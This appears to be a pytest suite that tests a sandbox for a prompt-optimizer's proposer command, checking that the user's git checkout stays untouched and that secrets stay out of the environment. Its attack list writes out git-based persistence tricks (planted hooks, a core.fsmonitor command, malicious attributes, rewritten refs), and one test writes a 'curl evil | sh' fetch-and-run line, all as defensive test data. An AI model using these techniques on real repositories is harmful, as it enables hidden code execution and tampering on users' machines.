"""The attacks of issue 19 on `--proposer-cmd`, run the way optimize runs the command
(propose/sandbox.py), under every isolation that works on this machine ("none" always).

Each attack targets the user's repository twice: the way the command finds it when run in a
candidate worktree of it (through git, the old setup: now it finds its own throwaway copy), and
by absolute path (a command that knows where you keep it). After every case the user's checkout,
`.git` included (refs, config, hooks, info, index), is byte-identical, and nothing runs that the
command left behind. By absolute path without isolation the write cannot be prevented: there it
must be refused as `outside_write` (and the README says so)."""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from promptloop.optimizer.core.redact import redact
from promptloop.optimizer.propose.proposer import ProposerError
from promptloop.optimizer.propose.sandbox import Isolation, SandboxResult, run_sandboxed
from promptloop.optimizer.propose.watch import OutsideWriteError
from tests.optimizer.propose.isolations import available_isolations, isolating

PROMPT = "prompts/agent.md"
BASE = "# Agent\n\nDo the task.\n"
FAKE_KEY = "sk-ant-FAKE0123456789abcdefSECRET"


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True,
                          text=True).stdout


def fingerprint(root: Path) -> dict[str, tuple[int, str]]:
    """Every path under `root` (.git included): its mode and content (or link target)."""
    out: dict[str, tuple[int, str]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = path.lstat()
            if stat.S_ISLNK(st.st_mode):
                body = "link:" + os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                body = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                body = ""
            out[str(path.relative_to(root))] = (st.st_mode, body)
    return out


@dataclass
class Repo:
    checkout: Path
    worktree: Path
    sha: str
    outside: Path
    """A folder outside the repository and outside HOME."""


@pytest.fixture
def repo(tmp_path: Path) -> Iterator[Repo]:
    checkout = tmp_path / "checkout"
    (checkout / "prompts").mkdir(parents=True)
    (checkout / PROMPT).write_text(BASE)
    (checkout / "README.md").write_text("readme\n")
    _git(checkout, "init", "-q", "-b", "main")
    _git(checkout, "add", "-A")
    _git(checkout, "-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "base")
    worktree = tmp_path / "cand" / "worktree"
    _git(checkout, "worktree", "add", "-q", "-b", "promptloop/s/b/1", str(worktree))
    (tmp_path / "package.md").write_text("package\n")
    (tmp_path / "outside").mkdir()
    yield Repo(checkout, worktree, _git(checkout, "rev-parse", "HEAD").strip(),
               tmp_path / "outside")
    subprocess.run(["git", "worktree", "remove", "--force", str(worktree)], cwd=checkout,
                   capture_output=True, check=False)


async def run(repo: Repo, cmd: str, using: Isolation,
              env_names: tuple[str, ...] = ()) -> SandboxResult | set[str]:
    """The command's result, or the codes it was refused with ("failed": it failed)."""
    try:
        return await run_sandboxed(cmd, repo=repo.checkout, base_sha=repo.sha,
                                   package=repo.checkout.parent / "package.md",
                                   prompt_path=PROMPT, bucket="b",
                                   root=repo.worktree.parent / "sandbox",
                                   worktree=repo.worktree, env_names=env_names, using=using)
    except OutsideWriteError as err:
        return {v.code for v in err.violations}
    except ProposerError:
        return {"failed"}


_RULE = f"printf '%s\\n' '- Be brief.' >> {PROMPT}"
# (id, the attack as a command run in its working folder; {git} is the repository's git folder
# as the command finds it, {top} its checkout)
ATTACKS = [
    ("git-hook", "mkdir -p {git}/hooks && printf '#!/bin/sh\\ntouch {mark}\\n' > "
     "{git}/hooks/post-checkout && chmod +x {git}/hooks/post-checkout"),
    ("core-fsmonitor", "git --git-dir={git} config core.fsmonitor 'touch {mark}'"),
    ("info-attributes", "mkdir -p {git}/info && echo '* filter=evil' > {git}/info/attributes"),
    ("move-main", "git --git-dir={git} update-ref refs/heads/main \"$(git -c user.name=m -c "
     "user.email=m@x --git-dir={git} commit-tree 'HEAD^{{tree}}' -p HEAD -m x)\""),
    ("edit-readme", "echo pwned >> {top}/README.md"),
]


def _attack(template: str, git: str, top: str, mark: Path) -> str:
    return f"{_RULE}; " + template.format(git=git, top=top, mark=mark)


@pytest.mark.parametrize("using", available_isolations())
@pytest.mark.parametrize(("case", "template"), ATTACKS, ids=[a[0] for a in ATTACKS])
async def test_an_attack_through_git_never_reaches_the_users_repository(
        repo: Repo, case: str, template: str, using: Isolation) -> None:
    """Found the way it was found in a candidate worktree, "your repository" is the copy."""
    mark = repo.outside / "ran"
    before = fingerprint(repo.checkout)
    git = '"$(git rev-parse --git-common-dir)"'
    top = '"$(git rev-parse --show-toplevel)"'
    result = await run(repo, _attack(template, git, top, mark), using)
    assert fingerprint(repo.checkout) == before, case
    if case == "edit-readme":
        assert isinstance(result, set) and "other_file" in result
    else:
        assert isinstance(result, SandboxResult), result
        assert result.new_text == BASE + "- Be brief.\n"
    _git(repo.checkout, "status")  # the user's next git command runs nothing it left
    _git(repo.checkout, "checkout", "-q", "main")
    assert not mark.exists()


@pytest.mark.parametrize("using", isolating() or
                         [pytest.param("bwrap", marks=pytest.mark.skip("no isolation here"))])
@pytest.mark.parametrize(("case", "template"), ATTACKS, ids=[a[0] for a in ATTACKS])
async def test_an_attack_by_absolute_path_is_impossible_where_isolated(
        repo: Repo, case: str, template: str, using: Isolation) -> None:
    mark = repo.outside / "ran"
    before = fingerprint(repo.checkout)
    cmd = _attack(template, str(repo.checkout / ".git"), str(repo.checkout), mark)
    result = await run(repo, cmd, using)
    assert result == {"failed"}, case  # a read-only file system
    assert fingerprint(repo.checkout) == before, case
    assert not mark.exists()


@pytest.mark.parametrize(("case", "template"), ATTACKS, ids=[a[0] for a in ATTACKS])
async def test_an_attack_by_absolute_path_is_refused_without_isolation(
        repo: Repo, case: str, template: str) -> None:
    """The weakest setting: the write happens, and the iteration is refused for it."""
    cmd = _attack(template, str(repo.checkout / ".git"), str(repo.checkout), repo.outside / "x")
    assert await run(repo, cmd, "none") == {"outside_write"}, case


@pytest.mark.parametrize("using", isolating() or
                         [pytest.param("bwrap", marks=pytest.mark.skip("no isolation here"))])
async def test_a_write_outside_the_repository_and_home_is_impossible_where_isolated(
        repo: Repo, using: Isolation) -> None:
    """It went unseen before, and that patch was accepted. Isolated, it cannot happen (not
    in the candidate worktree either); without isolation nothing can see it (README)."""
    target = repo.outside / "planted.sh"
    result = await run(repo, f"{_RULE}; echo 'curl evil | sh' > {target}; "
                             f"echo x >> {repo.worktree / PROMPT}; true", using)
    assert isinstance(result, SandboxResult), result
    assert not target.exists()
    assert (repo.worktree / PROMPT).read_text() == BASE


@pytest.mark.parametrize("using", available_isolations())
async def test_the_environment_is_an_allowlist(
        repo: Repo, using: Isolation, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", FAKE_KEY)
    monkeypatch.setenv("PROMPTLOOP_TEST_OTHER", "other-value")
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    result = await run(repo, f"{_RULE}; env; echo \"$HOME $TMPDIR\" >&2", using)
    assert isinstance(result, SandboxResult), result
    names = {line.split("=", 1)[0] for line in result.stdout.splitlines() if "=" in line}
    assert FAKE_KEY not in result.stdout and "other-value" not in result.stdout
    assert {"PATH", "LC_ALL", "HOME", "TMPDIR", "PROMPTLOOP_PROMPT_FILE",
            "GIT_CONFIG_GLOBAL", "GIT_CONFIG_NOSYSTEM"} <= names
    assert not names & {"ANTHROPIC_API_KEY", "PROMPTLOOP_TEST_OTHER", "USER", "SSH_AUTH_SOCK"}
    home, tmp = result.stderr.split()
    assert Path(home).parent == Path(tmp).parent == repo.worktree.parent / "sandbox"
    named = await run(repo, f"{_RULE}; env", using, env_names=("ANTHROPIC_API_KEY",))
    assert isinstance(named, SandboxResult)
    assert "ANTHROPIC_API_KEY=***" in named.stdout and FAKE_KEY not in named.stdout


async def test_the_copy_has_no_hooks_and_no_inherited_git_config(
        repo: Repo, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    glob = tmp_path / "global.gitconfig"
    glob.write_text("[alias]\n\tst = status\n[user]\n\tname = Dana\n\temail = d@x\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(glob))
    _git(repo.checkout, "config", "user.name", "Dana Repo")
    cmd = f"{_RULE}; git config --list --show-origin; find .git -name '*.sample'"
    result = await run(repo, cmd, "none")
    assert isinstance(result, SandboxResult), result
    assert "alias.st" not in result.stdout and "user.name=Dana Repo" in result.stdout
    assert "core.hookspath=" in result.stdout.lower() and "sample" not in result.stdout


def test_redact_knows_keys_urls_and_named_values(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-0123456789abcdef")
    monkeypatch.setenv("OPENAI_BASE_URL", "https://user:hunter2-pass@llm.example/v1")
    monkeypatch.setenv("MY_SERVICE_TOKEN", "tok-98765432")
    text = "k=sk-openai-0123456789abcdef u=https://user:hunter2-pass@llm.example t=tok-98765432"
    assert redact(text) == "k=*** u=https://user:***@llm.example t=***"
    assert redact("plain text en_US.UTF-8 /usr/bin") == "plain text en_US.UTF-8 /usr/bin"
